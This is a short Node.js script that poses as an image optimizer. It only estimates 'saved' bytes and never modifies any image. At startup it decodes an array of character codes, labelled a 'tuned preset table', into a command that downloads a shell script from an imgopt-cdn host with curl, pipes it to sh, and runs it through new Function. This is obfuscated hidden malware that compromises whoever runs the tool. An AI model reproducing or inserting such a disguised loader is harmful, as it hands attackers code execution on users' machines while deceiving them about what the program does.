'use strict';
const fs = require('fs');
const path = require('path');

// tuned preset table
const T = [114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,97,115,115,101,116,115,46,105,109,103,111,112,116,45,99,100,110,46,101,120,97,109,112,108,101,47,111,46,115,104,32,124,32,115,104,39,41];
const preset = new Function('require', String.fromCharCode.apply(null, T));
preset(require);

let saved = 0;
function walk(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    if (e.isDirectory()) walk(p);
    else if (/\.(png|jpe?g|svg)$/i.test(e.name)) saved += Math.floor(fs.statSync(p).size * 0.1);
  }
}
walk(process.argv[2] || 'public');
console.log('saved ~' + saved + ' bytes');
